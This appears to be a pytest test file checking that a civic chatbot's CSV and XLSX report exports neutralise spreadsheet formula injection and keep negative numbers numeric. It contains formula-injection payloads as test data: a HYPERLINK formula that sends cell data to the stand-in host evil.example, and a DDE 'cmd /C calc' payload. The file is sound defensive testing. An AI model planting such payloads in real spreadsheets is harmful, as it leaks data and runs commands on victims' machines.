"""A citizen's words reach the spreadsheets: a question the assistant could not answer is listed
in the chatbot report, and its CSV, Italian CSV and XLSX downloads must open it as text, never
as a formula (`core.tables.safe_cell`); the numbers beside it, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.test import Client
from openpyxl import load_workbook

from ascolto.analytics import opendata
from ascolto.assistant.models import MenuVersion, Unanswered
from ascolto.core import tables
from ascolto.core.tables import Dashboard, Figure, Table
from tests import personas
from tests.assistant.conftest import Citizen

pytestmark = pytest.mark.django_db
ROME = ZoneInfo("Europe/Rome")
# The assistant keeps an unanswered question in lower case; a spreadsheet reads formulas in any.
ATTACK = '=hyperlink("http://evil.example/?d="&a1,"clicca")'
QUERY = "periodo=personalizzato&dal=2026-03-01&al=2026-03-31"


@pytest.fixture(autouse=True)
def _pinned_clock() -> Iterator[None]:
    with time_machine.travel(datetime(2026, 3, 10, 11, 0, tzinfo=ROME)):
        yield


def _export(cast: personas.Cast, fmt: str) -> bytes:
    client = Client()
    client.force_login(cast.analyst)
    response = client.get(f"/console/reports/chatbot/?{QUERY}&formato={fmt}")
    assert response.status_code == 200
    return bytes(response.content)


def test_a_citizens_formula_is_text_in_the_chatbot_reports_csv_and_xlsx(
    citizen: Citizen, menu: MenuVersion, cast: personas.Cast
) -> None:
    citizen.say("ciao")
    citizen.say(ATTACK)
    assert Unanswered.objects.filter(text=ATTACK).exists()  # it did reach the report's table

    for fmt, encoding, delimiter in (("csv", "utf-8", ","), ("csv-it", "utf-8-sig", ";")):
        text = _export(cast, fmt).decode(encoding)
        cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
        assert "'" + ATTACK in cells, fmt
        assert not any(c.startswith(tables.FORMULA_STARTS) for c in cells), fmt

    book = load_workbook(io.BytesIO(_export(cast, "xlsx")))
    texts = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert any(c.value == "'" + ATTACK and c.data_type == "s" for c in texts)
    assert not any(c.data_type == "f" for c in texts)  # no formula anywhere in the workbook


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_each_writer(start: str, tmp_path: Path) -> None:
    evil = f"{start}cmd|' /C calc'!A0"
    board = Dashboard(
        key="b",
        title=evil,
        subtitle="",
        figures=[Figure(evil, -3, "")],
        tables=[Table("t", evil, [evil, "n"], [[evil, -1.5], ["ok", -7]])],
    )
    for flavour in (tables.CSV_STANDARD, tables.CSV_EXCEL_IT):
        delimiter = ";" if flavour == tables.CSV_EXCEL_IT else ","
        one, every = (
            tables.table_csv(board.tables[0], flavour),
            tables.dashboard_csv(board, flavour),
        )
        for text in (one, every):
            cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
            assert "'" + evil in cells
            assert evil not in cells
    book = load_workbook(io.BytesIO(tables.dashboard_xlsx(board)))
    values = [c for s in book.worksheets for row in s.iter_rows() for c in row if c.value]
    assert all(c.value != evil for c in values)
    assert any(c.value == "'" + evil and c.data_type == "s" for c in values)

    out = io.StringIO()
    tables.write_table([evil], [[evil]], path=tmp_path / "t.csv", out=out)
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as handle:
        assert list(csv.reader(handle)) == [["'" + evil], ["'" + evil]]
    tables.write_table([evil], [[evil]], path=tmp_path / "t.xlsx", out=out)
    sheet = load_workbook(tmp_path / "t.xlsx").worksheets[0]
    assert sheet["A2"].value == "'" + evil and sheet["A2"].data_type == "s"


def test_negative_numbers_stay_numbers_in_csv_and_xlsx() -> None:
    table = Table("t", "Saldo", ["Voce", "Differenza", "Quota"], [["Giugno", -12, -0.5]])
    assert tables.table_csv(table).splitlines()[1] == "Giugno,-12,-0.5"
    assert tables.table_csv(table, tables.CSV_EXCEL_IT).splitlines()[1] == "Giugno;-12;-0,5"
    board = Dashboard(key="b", title="Saldo", subtitle="", figures=[], tables=[table])
    sheet = load_workbook(io.BytesIO(tables.dashboard_xlsx(board))).worksheets[1]
    assert sheet["B3"].value == -12 and sheet["B3"].data_type == "n"
    assert sheet["C3"].value == -0.5 and sheet["C3"].data_type == "n"
    assert tables.safe_cell(-4) == -4 and tables.safe_cell("-4") == "'-4"


def test_open_data_rows_are_neutralised_too() -> None:
    fields = opendata._fields("casi_mensili")
    row: dict[str, Any] = dict.fromkeys(fields, 0)
    row[fields[0]] = "=1+1"
    row[fields[-1]] = -3
    text = opendata.rows_csv("casi_mensili", [row])
    [values] = list(csv.DictReader(io.StringIO(text)))
    assert values[fields[0]] == "'=1+1"
    assert values[fields[-1]] == "-3"
